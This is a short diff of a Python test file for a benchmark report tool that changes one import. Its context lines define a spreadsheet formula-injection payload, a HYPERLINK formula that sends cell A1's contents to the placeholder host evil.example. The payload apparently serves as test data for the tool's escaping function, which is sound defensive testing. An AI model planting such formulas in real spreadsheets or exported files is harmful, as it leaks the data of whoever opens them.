@@ -11,7 +11,7 @@ from types import SimpleNamespace
 import pytest
 from click.testing import CliRunner
 
-from dlbench.report import compare, escape, history, model, render
+from dlbench.report import compare, escape, history, table as model, render
 from dlbench.results.document import write_document
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
